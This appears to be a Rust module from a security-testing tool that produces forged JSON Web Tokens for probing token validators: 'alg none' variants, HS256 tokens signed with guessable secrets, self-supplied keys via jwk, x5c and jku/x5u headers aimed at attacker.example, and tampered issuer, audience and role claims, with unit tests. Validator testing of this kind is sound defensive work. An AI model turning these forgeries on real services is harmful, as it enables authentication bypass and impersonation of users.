//! Tokens that a careless validator takes for good ones: other names of an algorithm, keys that the token brings along or
//! that can be guessed, and claims that are missing or almost right.

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value, json};

use super::{Forgery, own_key::OwnKey, token};
use crate::{AccessToken, Target};

/// What stands in the place of a signature.
enum Seal<'a> {
    /// Nothing.
    Empty,
    /// As many zeros as an ES256 signature has bytes.
    Zeros,
    /// A signature with the forger's key.
    Own(&'a OwnKey),
    /// An HS256 signature with a guessed secret.
    Secret(&'a str),
    /// The same with HS512.
    LongSecret(&'a str),
}

/// An address of the forger, at which nothing is served.
const FORGERS: &str = "https://attacker.example";

impl Forgery {
    /// Every token of the kind, and what is wrong with it.
    pub(crate) fn lookalikes(
        &self,
        target: &Target,
    ) -> Result<Vec<(&'static str, AccessToken)>, String> {
        let key = OwnKey::get()?;
        let mut made = self.by_algorithm(key, target)?;
        made.extend(self.by_header(key)?);
        made.extend(self.by_claims(key, target)?);
        Ok(made)
    }

    /// Other names of an algorithm, and secrets that can be guessed.
    fn by_algorithm(
        &self,
        key: &OwnKey,
        target: &Target,
    ) -> Result<Vec<(&'static str, AccessToken)>, String> {
        let (client, tenant) = (target.client_id.to_string(), target.tenant_id.to_string());
        let hs256 = || json!({"alg": "HS256"});
        let null_kid = json!({"alg": "HS256", "kid": "/dev/null"});
        let forms = [
            ("alg None", json!({"alg": "None"}), Seal::Empty),
            ("alg NONE", json!({"alg": "NONE"}), Seal::Empty),
            ("alg nOnE", json!({"alg": "nOnE"}), Seal::Empty),
            ("no alg, no signature", json!({"alg": null}), Seal::Empty),
            ("no alg, another key", json!({"alg": null}), Seal::Own(key)),
            ("alg rs256, another key", json!({"alg": "rs256"}), Seal::Own(key)),
            ("alg RS256, no signature", json!({"alg": "RS256"}), Seal::Empty),
            ("alg ES256, a signature of zeros", json!({"alg": "ES256"}), Seal::Zeros),
            ("alg PS256, another key", json!({"alg": "PS256"}), Seal::Own(key)),
            ("alg RS512, another key", json!({"alg": "RS512"}), Seal::Own(key)),
            ("alg EdDSA, a signature of zeros", json!({"alg": "EdDSA"}), Seal::Zeros),
            ("HS512, a common secret", json!({"alg": "HS512"}), Seal::LongSecret("secret")),
            ("HS256, the secret of examples", hs256(), Seal::Secret("your-256-bit-secret")),
            ("HS256, a default secret", hs256(), Seal::Secret("changeme")),
            (
                "alg hs256, the client id as its secret",
                json!({"alg": "hs256"}),
                Seal::Secret(&client),
            ),
            ("HS256, no secret", hs256(), Seal::Secret("")),
            ("HS256, a common secret", hs256(), Seal::Secret("secret")),
            ("HS256, the client id as its secret", hs256(), Seal::Secret(&client)),
            ("HS256, the tenant id as its secret", hs256(), Seal::Secret(&tenant)),
            ("HS256, an empty file as its key", null_kid, Seal::Secret("")),
        ];
        let none = json!({});
        forms
            .into_iter()
            .map(|(what, header, seal)| Ok((what, self.sealed(&header, &none, &seal)?)))
            .collect()
    }

    /// Keys that the header brings along, or points at.
    fn by_header(&self, key: &OwnKey) -> Result<Vec<(&'static str, AccessToken)>, String> {
        let crit = json!({"crit": ["http://attacker.example/none"]});
        let forms = [
            ("no kid, another key", json!({"kid": null})),
            ("an address as kid, another key", json!({"kid": format!("{FORGERS}/key")})),
            ("an unknown critical extension, another key", crit),
            ("enc, as if it were encrypted, another key", json!({"enc": "A256GCM", "zip": "DEF"})),
            ("its own key as jwk", json!({"jwk": key.jwk(), "kid": "forged"})),
            ("its own key set as jku", json!({"jku": format!("{FORGERS}/keys"), "kid": "forged"})),
            ("its own certificate as x5u", json!({"x5u": format!("{FORGERS}/certificate")})),
            ("its own certificate as x5c", json!({"x5c": [key.certificate()?]})),
        ];
        let none = json!({});
        let seal = Seal::Own(key);
        forms
            .into_iter()
            .map(|(what, header)| Ok((what, self.sealed(&header, &none, &seal)?)))
            .collect()
    }

    /// Claims that are missing or almost right.
    fn by_claims(
        &self,
        key: &OwnKey,
        target: &Target,
    ) -> Result<Vec<(&'static str, AccessToken)>, String> {
        let client = target.client_id;
        let is_v2 = self.claims.get("ver").and_then(Value::as_str) == Some("2.0");
        let v2_issuer = format!("{}{}/v2.0", target.authority, target.tenant_id);
        let other_version = if is_v2 {
            json!({"ver": "1.0", "iss": target.v1_issuer()})
        } else {
            json!({"ver": "2.0", "iss": v2_issuer})
        };
        let audience = self.claims.get("aud").cloned().unwrap_or_default();
        let forms = [
            ("another issuer, another key", json!({"iss": format!("{FORGERS}/")})),
            ("no iss, another key", json!({"iss": null})),
            ("the other version, another key", other_version),
            (
                "the scope and no role, another key",
                json!({"roles": null, "scp": "user_impersonation"}),
            ),
            ("roles as a text, another key", json!({"roles": target.role})),
            ("aud as a list, another key", json!({"aud": [audience, FORGERS]})),
            ("no aud, another key", json!({"aud": null})),
            ("no exp, another key", json!({"exp": null})),
            ("an aud that begins as the app's, another key", json!({"aud": format!("{client}x")})),
            (
                "an aud that begins as the app's URI, another key",
                json!({"aud": format!("{}.attacker", target.identifier_uri)}),
            ),
            (
                "the role in other case, another key",
                json!({"roles": [target.role.to_lowercase()], "scp": null}),
            ),
        ];
        let (none, seal) = (json!({"alg": "RS256"}), Seal::Own(key));
        forms
            .into_iter()
            .map(|(what, claims)| Ok((what, self.sealed(&none, &claims, &seal)?)))
            .collect()
    }

    /// A token with changes of its header and its claims, of which `null` removes one.
    fn sealed(
        &self,
        header: &Value,
        claims: &Value,
        seal: &Seal<'_>,
    ) -> Result<AccessToken, String> {
        let mut forgery = self.clone();
        forgery.header.insert("alg".to_owned(), json!("RS256"));
        change(&mut forgery.header, header);
        change(&mut forgery.claims, claims);
        let message = forgery.message();
        let sign = |key: &EncodingKey, algorithm| {
            jsonwebtoken::crypto::sign(message.as_bytes(), key, algorithm)
                .map_err(|error| error.to_string())
        };
        let signature = match seal {
            Seal::Empty => String::new(),
            Seal::Zeros => URL_SAFE_NO_PAD.encode([0; 64]),
            Seal::Own(key) => sign(&key.signing, Algorithm::RS256)?,
            Seal::Secret(secret) => {
                sign(&EncodingKey::from_secret(secret.as_bytes()), Algorithm::HS256)?
            }
            Seal::LongSecret(secret) => {
                sign(&EncodingKey::from_secret(secret.as_bytes()), Algorithm::HS512)?
            }
        };
        token(&format!("{message}.{signature}"))
    }
}

fn change(members: &mut Map<String, Value>, changes: &Value) {
    for (name, value) in changes.as_object().into_iter().flatten() {
        match value {
            Value::Null => drop(members.remove(name)),
            value => drop(members.insert(name.clone(), value.clone())),
        }
    }
}

#[cfg(test)]
mod tests {
    use jsonwebtoken::{Algorithm, DecodingKey};
    use uuid::Uuid;

    use super::{AccessToken, Forgery, Target};

    fn lookalikes() -> Vec<(&'static str, AccessToken)> {
        let target = Target::new("https://app.example", Uuid::from_u128(1), Uuid::from_u128(2));
        let target = target.unwrap();
        Forgery::invented(&target, 1e9).lookalikes(&target).unwrap()
    }

    fn is_signed(token: &AccessToken, key: &DecodingKey, algorithm: Algorithm) -> bool {
        let (message, signature) = token.expose().rsplit_once('.').unwrap();
        jsonwebtoken::crypto::verify(signature, message.as_bytes(), key, algorithm).unwrap()
    }

    #[test]
    fn a_key_that_a_token_brings_along_signed_it() {
        let made = lookalikes();
        let find = |what| &made.iter().find(|(it, _)| *it == what).unwrap().1;
        let jwk = find("its own key as jwk");
        let header = jwk.header();
        let (n, e) = (header["jwk"]["n"].as_str().unwrap(), header["jwk"]["e"].as_str().unwrap());
        let key = DecodingKey::from_rsa_components(n, e).unwrap();
        for what in ["its own key as jwk", "its own certificate as x5c", "alg rs256, another key"] {
            assert!(is_signed(find(what), &key, Algorithm::RS256), "{what}");
        }
        let secret = DecodingKey::from_secret(b"secret");
        assert!(is_signed(find("HS256, a common secret"), &secret, Algorithm::HS256));
        let empty = DecodingKey::from_secret(b"");
        assert!(is_signed(find("HS256, no secret"), &empty, Algorithm::HS256));
    }

    #[test]
    fn what_is_missing_is_missing() {
        for (what, token) in lookalikes() {
            let (header, claims) = (token.header(), token.claims());
            assert_eq!(header.contains_key("alg"), !what.starts_with("no alg"), "{what}");
            assert_eq!(claims.0.contains_key("aud"), what != "no aud, another key", "{what}");
            assert_eq!(claims.0.contains_key("exp"), what != "no exp, another key", "{what}");
        }
    }
}
